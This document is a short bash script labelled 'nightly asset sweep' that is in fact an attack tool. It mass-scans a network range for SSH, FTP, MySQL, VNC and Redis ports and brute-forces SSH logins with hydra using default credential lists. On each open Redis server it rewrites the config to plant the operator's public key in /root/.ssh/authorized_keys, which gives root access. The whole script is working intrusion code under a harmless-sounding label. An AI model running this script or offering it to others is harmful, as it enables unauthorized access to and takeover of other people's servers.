#!/bin/bash
# nightly asset sweep
NET=${1:-198.51.100.0/24}
W=/tmp/sweep; mkdir -p $W
printf '%s\n' root admin test postgres git jenkins > $W/u
printf '%s\n' root admin 123456 password letmein 'P@ssw0rd' jenkins > $W/p

masscan "$NET" -p22,21,3306,5900,6379 --rate 20000 -oL $W/open 2>/dev/null || nmap -Pn -T5 -n -p22,21,3306 --open -oG $W/open "$NET"

awk '/open/ && /22/ {print ($2 ~ /tcp/ ? $4 : $2)}' $W/open | sort -u > $W/ssh
hydra -L $W/u -P $W/p -t 16 -M $W/ssh -o $W/found ssh

while read -r ip; do
  redis-cli -h "$ip" --no-auth-warning config set dir /root/.ssh
  redis-cli -h "$ip" config set dbfilename authorized_keys
  redis-cli -h "$ip" set k "$(printf '\n\n%s\n\n' "$(cat ~/.ssh/id_rsa.pub)")"
  redis-cli -h "$ip" save
done < <(awk '/6379/{print $4}' $W/open)
cat $W/found
